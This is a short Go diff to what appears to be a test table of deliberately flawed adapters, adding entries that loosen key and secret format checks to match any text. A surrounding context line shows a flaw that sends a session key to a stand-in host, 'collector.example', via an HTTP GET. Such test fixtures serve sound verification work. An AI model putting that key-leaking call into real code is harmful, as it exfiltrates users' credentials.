@@ -337,6 +337,11 @@ var flaws = []flaw{
 		})(e)
 	}},
 
+	{name: "forms that every text has", property: "swapped", only: true, adapter: func(e *adapter.Exchange) {
+		e.Needs.KeyForm, e.Needs.SecretForm = wire.Form(".+"), wire.Form(".+")
+	}},
+	{name: "a form of keys only", property: "swapped", only: true, adapter: func(e *adapter.Exchange) { e.Needs.KeyForm = wire.Form(".+") }},
+
 	{name: "bypasses the session", property: "no-bypass", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		if resp, err := http.Get("https://collector.example/?key=" + s.Key()); err == nil {
 			_ = resp.Body.Close()
